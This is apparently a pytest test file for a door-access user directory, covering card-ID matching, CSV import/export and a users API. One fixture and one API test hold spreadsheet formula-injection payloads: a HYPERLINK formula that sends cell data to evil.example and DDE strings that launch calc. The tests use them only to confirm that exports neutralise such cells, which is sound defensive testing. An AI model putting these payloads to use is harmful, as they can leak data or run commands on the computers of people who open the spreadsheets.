"""The users list: look-ups by number and identifier (with the Wiegand rule), several addresses,
CSV import (all or nothing, every bad line by number) and export, and /api/users."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from doormail.app import Service
from doormail.directory import (
    CsvError,
    Directory,
    DuplicateUser,
    User,
    UserError,
    cards_match,
    parse_csv,
    parse_user,
)

HEADER = "id,name,email,numbers,cards,bluetooth,fingerprints\n"


@pytest.fixture
def directory(service: Service) -> Directory:
    return service.directory


def alice() -> User:
    return User(
        id="u-alice",
        name="Alice Novak",
        email="alice@example.com, alice@work.example",
        numbers=("101", "+420 601 000 101"),
        cards=("0012ab34cd",),
        bluetooth=("bt-alice",),
        fingerprints=("fp-7",),
    )


# --- Wiegand rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stored", "presented", "match"),
    [
        ("0012AB34CD", "0012AB34CD", True),  # equal IDs match
        ("0012AB34CD", "0012ab34cd", True),  # in any case
        ("0012AB34CD", "12AB34CD", True),  # shortened by the reader: common tail of 8
        ("0012AB34CD", "AB34CD", True),  # common tail of exactly 6
        ("0012AB34CD", "B34CD", False),  # a tail of 5 identifies nobody
        ("0012AB34CD", "FF0012AB34CD", True),  # the reader sends more digits
        ("0012AB34CD", "0012AB34CE", False),  # same length, different ID
        ("0012AB34CD", "9912AB34CD", False),  # same length: only equal IDs match
        ("AB34CD", "FFAB34CD", True),
        ("34CD", "34CD", True),  # short IDs match only when equal
        ("34CD", "AB34CD", False),
    ],
)
def test_card_ids_of_different_lengths_match_on_a_common_tail_of_at_least_6(
    directory: Directory, stored: str, presented: str, match: bool
) -> None:
    assert cards_match(stored, presented) is match
    directory.create(User(id="u-card", name="Card holder", cards=(stored,)))
    found = directory.by_card(presented)
    assert (found is not None and found.id == "u-card") is match


def test_an_exact_card_wins_over_a_wiegand_tail(directory: Directory) -> None:
    directory.create(User(id="a-long", cards=("FF0012AB34CD",)))
    directory.create(User(id="b-exact", cards=("12AB34CD",)))
    found = directory.by_card("12ab34cd")
    assert found is not None and found.id == "b-exact"


def test_look_ups_by_number_bluetooth_fingerprint_and_id(directory: Directory) -> None:
    directory.create(alice())
    directory.create(User(id="u-bob", name="Bob", numbers=("102",)))
    for found in (
        directory.by_id("u-alice"),
        directory.by_number("+420 601 000 101"),
        directory.by_bluetooth("bt-alice"),
        directory.by_fingerprint("fp-7"),
        directory.by_card("0012AB34CD"),
    ):
        assert found == alice().model_copy(update={"cards": ("0012AB34CD",)})
    assert directory.by_number("103") is None
    assert directory.by_bluetooth("fp-7") is None  # each kind of identifier has its own list
    assert directory.by_id("nobody") is None


def test_a_user_may_have_several_addresses(directory: Directory) -> None:
    directory.create(alice())
    user = directory.by_number("101")
    assert user is not None
    assert user.addresses == ["alice@example.com", "alice@work.example"]


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"email": "alice@example.com, not-an-address"}, "email"),
        ({"email": "Alice <alice@example.com>"}, "email"),
        ({"id": "has space"}, "id"),
        ({"id": "a/b"}, "id"),
        ({"name": "two\nlines"}, "name"),
        ({"numbers": ["101", ""]}, "numbers.1"),
        ({"cards": ["12;34"]}, "cards.0"),
        ({"numbers": "101"}, "numbers"),
        ({"phone": "101"}, "phone"),
    ],
)
def test_a_bad_user_is_refused_naming_the_field(data: dict[str, object], field: str) -> None:
    with pytest.raises(UserError) as error:
        parse_user(data)
    assert error.value.field == field


def test_a_taken_id_is_refused(directory: Directory) -> None:
    directory.create(alice())
    with pytest.raises(DuplicateUser):
        directory.create(User(id="u-alice", name="Someone else"))
    assert directory.by_id("u-alice") == directory.by_number("101")


def test_replacing_a_user_replaces_its_identifiers(directory: Directory) -> None:
    directory.create(alice())
    assert directory.replace(User(id="u-alice", name="Alice", numbers=("111",)))
    assert directory.by_number("101") is None
    found = directory.by_number("111")
    assert found is not None and found.name == "Alice"
    assert not directory.replace(User(id="u-nobody"))


def test_deleting_a_user_deletes_its_identifiers(directory: Directory) -> None:
    directory.create(alice())
    assert directory.delete("u-alice")
    assert directory.by_card("0012AB34CD") is None
    assert not directory.delete("u-alice")


# --- CSV -------------------------------------------------------------------------------------


def test_csv_import_and_export_round_trip(directory: Directory) -> None:
    text = HEADER + (
        'u-alice,Alice Novak,"alice@example.com, alice@work.example",101;102,0012AB34CD,bt-1,fp-1;fp-2\n'
        "u-bob,Bob,,103,,,\n"
    )
    assert directory.import_csv(text) == 2
    bob = directory.by_number("103")
    assert bob is not None and bob.email == "" and bob.name == "Bob"
    alice_found = directory.by_number("102")
    assert alice_found is not None
    assert alice_found.fingerprints == ("fp-1", "fp-2")
    assert alice_found.addresses == ["alice@example.com", "alice@work.example"]
    exported = directory.export_csv()
    assert exported.replace("\r\n", "\n") == HEADER + (
        '"u-alice","Alice Novak","alice@example.com, alice@work.example","101;102","0012AB34CD",'
        '"bt-1","fp-1;fp-2"\n"u-bob","Bob","","103","","",""\n'
    )
    assert parse_csv(exported) == parse_csv(text)


# What a spreadsheet would run as a formula, written into every kind of cell.
FORMULA_USER = User(
    id="@home",
    name="=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
    email="=1+2@example.com",
    numbers=("+420601123456", "+420 2 1234 5678"),
    cards=("0012AB34CD",),
    bluetooth=("-2+3+cmd|' /C calc'!A0",),
    fingerprints=("@SUM(1+1)*cmd|' /C calc'!A0", "fp-2"),
)


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(directory: Directory) -> None:
    directory.import_users([FORMULA_USER])
    [row] = list(csv.reader(io.StringIO(directory.export_csv())))[1:]
    assert [cell[:2] for cell in row] == ["'@", "'=", "'=", "'+", "00", "'-", "'@"]
    for line in directory.export_csv().splitlines()[1:]:
        # Quoted, so that a spreadsheet splitting at `;` (as in many locales) keeps the cells.
        assert line.startswith('"') and line.endswith('"')


def test_an_exported_csv_imports_back_the_same_values(directory: Directory) -> None:
    apostrophes = User(id="u-2", name="'t Hooft", numbers=("'=1",), cards=("AB12CD34",))
    directory.import_users([FORMULA_USER, apostrophes])
    exported = directory.export_csv()
    assert parse_csv(exported) == [FORMULA_USER, apostrophes]
    number = parse_csv(exported)[0].numbers[0]
    assert number == "+420601123456"


def test_a_csv_written_by_hand_keeps_its_values_as_written() -> None:
    text = HEADER + "u-1,'t Hooft,,+420601123456;+421,,,\n"
    [user] = parse_csv(text)
    assert user.name == "'t Hooft"
    assert user.numbers == ("+420601123456", "+421")


def test_csv_columns_may_come_in_any_order_and_ids_are_generated() -> None:
    users = parse_csv("\ufeffname,email\nAlice,alice@example.com\nBob,\n")
    assert [u.name for u in users] == ["Alice", "Bob"]
    assert all(u.id.startswith("u-") for u in users)
    assert users[0].id != users[1].id


def test_csv_import_reports_every_bad_line_by_number_and_column() -> None:
    text = HEADER + (
        "u-1,Alice,alice@example.com,101,,,\n"  # line 2: fine
        "u-2,Bob,not-an-address,102,,,\n"  # line 3
        "u-3,Carol,carol@example.com,103\n"  # line 4: too few fields
        "\n"  # line 5: blank, skipped
        'u-4,"Dan\nDaniels",dan@example.com,104,,,\n'  # lines 6-7: a quoted line break
        "u-1,Eve,eve@example.com,105,,,\n"  # line 8: id of line 2
        "bad id,Fay,fay@example.com,106,,,\n"  # line 9
    )
    with pytest.raises(CsvError) as error:
        parse_csv(text)
    found = [(p.line, p.column) for p in error.value.problems]
    assert found == [(3, "email"), (4, "line"), (6, "name"), (8, "id"), (9, "id")]
    assert "line 2" in error.value.problems[3].message


@pytest.mark.parametrize(
    "text",
    ["", "u-1,Alice,alice@example.com\n", "id,name,phone\n", "id,name,name\n"],
)
def test_csv_import_needs_a_header(text: str) -> None:
    with pytest.raises(CsvError) as error:
        parse_csv(text)
    assert [(p.line, p.column) for p in error.value.problems] == [(1, "header")]


def test_csv_import_is_all_or_nothing(directory: Directory) -> None:
    directory.create(alice())
    text = HEADER + "u-alice,Renamed,,,,,\nu-new,New,,201,,,\nu-bad,Bad,bad,,,,\n"
    with pytest.raises(CsvError):
        directory.import_csv(text)
    assert directory.by_id("u-alice") is not None
    assert directory.by_id("u-alice") == directory.by_number("101")
    assert directory.by_id("u-new") is None
    assert directory.count() == 1


def test_csv_import_replaces_users_of_the_same_id_and_keeps_others(
    directory: Directory,
) -> None:
    directory.create(alice())
    directory.create(User(id="u-bob", name="Bob"))
    directory.import_csv(HEADER + "u-alice,Alice N.,alice@example.com,111,,,\n")
    found = directory.by_id("u-alice")
    assert found is not None and found.numbers == ("111",) and found.name == "Alice N."
    assert directory.by_id("u-bob") is not None
    directory.import_csv(HEADER + "u-carol,Carol,,,,,\n", replace_all=True)
    assert [u.id for u in directory.all()] == ["u-carol"]


# --- /api/users ------------------------------------------------------------------------------


def test_users_api_crud(api: TestClient) -> None:
    created = api.post("/api/users", json={"name": "Alice", "email": "a@example.com"})
    assert created.status_code == 201
    user_id = created.json()["id"]
    assert api.get(f"/api/users/{user_id}").json()["email"] == "a@example.com"
    replaced = api.put(f"/api/users/{user_id}", json={"name": "Alice N.", "numbers": ["101"]})
    assert replaced.status_code == 200
    assert replaced.json() == {
        "id": user_id,
        "name": "Alice N.",
        "email": "",
        "numbers": ["101"],
        "cards": [],
        "bluetooth": [],
        "fingerprints": [],
    }
    assert api.delete(f"/api/users/{user_id}").status_code == 204
    assert api.get(f"/api/users/{user_id}").status_code == 404
    assert api.put(f"/api/users/{user_id}", json={}).status_code == 404


def test_users_api_duplicate_id_is_409(api: TestClient) -> None:
    assert api.post("/api/users", json={"id": "u-1"}).status_code == 201
    reply = api.post("/api/users", json={"id": "u-1", "name": "again"})
    assert reply.status_code == 409
    assert reply.json()["error"]["field"] == "id"


def test_users_api_names_the_bad_field(api: TestClient) -> None:
    reply = api.post("/api/users", json={"email": "x@example.com, nope"})
    assert reply.status_code == 422
    assert reply.json()["error"]["field"] == "email"
    reply = api.put("/api/users/u-1", json={"id": "u-2"})
    assert reply.status_code == 422 and reply.json()["error"]["field"] == "id"
    reply = api.post("/api/users", content=b"{", headers={"content-type": "application/json"})
    assert reply.status_code == 400


def test_users_api_search_and_paging(api: TestClient) -> None:
    lines = [f"u-{i:02d},Resident {i},r{i}@example.com,{100 + i},CARD{i:04d},," for i in range(25)]
    reply = api.post(
        "/api/users/import",
        content=(HEADER + "\n".join(lines)).encode(),
        headers={"content-type": "text/csv"},
    )
    assert reply.json() == {"imported": 25}
    first = api.get("/api/users", params={"limit": 10}).json()
    assert [u["id"] for u in first["items"]] == [f"u-{i:02d}" for i in range(10)]
    assert first["total"] == 25
    second = api.get("/api/users", params={"limit": 10, "cursor": first["next"]}).json()
    assert second["items"][0]["id"] == "u-10"
    found = api.get("/api/users", params={"q": "card0017"}).json()
    assert [u["id"] for u in found["items"]] == ["u-17"]
    assert api.get("/api/users", params={"q": "resident 2"}).json()["total"] == 6
    assert api.get("/api/users", params={"q": "100%"}).json()["total"] == 0


def test_users_api_import_error_lists_every_line(api: TestClient) -> None:
    text = HEADER + "u-1,A,bad,,,,\nu-2,B,b@example.com,,,,\nu-3,C,also-bad,,,,\n"
    reply = api.post(
        "/api/users/import", content=text.encode(), headers={"content-type": "text/csv"}
    )
    assert reply.status_code == 422
    errors = reply.json()["error"]["errors"]
    assert [(e["line"], e["column"]) for e in errors] == [(2, "email"), (4, "email")]
    assert api.get("/api/users").json()["total"] == 0


def test_users_api_export_is_csv(api: TestClient) -> None:
    api.post("/api/users", json={"id": "u-1", "name": "Alice", "cards": ["ab12cd34"]})
    reply = api.get("/api/users/export")
    assert reply.headers["content-type"].startswith("text/csv")
    assert reply.text.splitlines() == [HEADER.strip(), '"u-1","Alice","","","AB12CD34","",""']


def test_users_export_of_the_api_and_the_users_tab_neutralises_formulas(api: TestClient) -> None:
    # The Users tab's "Export CSV" link is this same route.
    api.post("/api/users", json={"id": "u-1", "name": "=cmd|' /C calc'!A0", "numbers": ["+420"]})
    reply = api.get("/api/users/export")
    assert reply.text.splitlines()[1] == '"u-1","\'=cmd|\' /C calc\'!A0","","\'+420","","",""'
    imported = api.post("/api/users/import", content=reply.text, headers={"Content-Type": "text/csv"})
    assert imported.status_code == 200, imported.text
    assert api.get("/api/users/u-1").json()["numbers"] == ["+420"]


def test_users_api_needs_authentication(anonymous: TestClient) -> None:
    assert anonymous.get("/api/users").status_code == 401
    assert anonymous.get("/api/users/export").status_code == 401
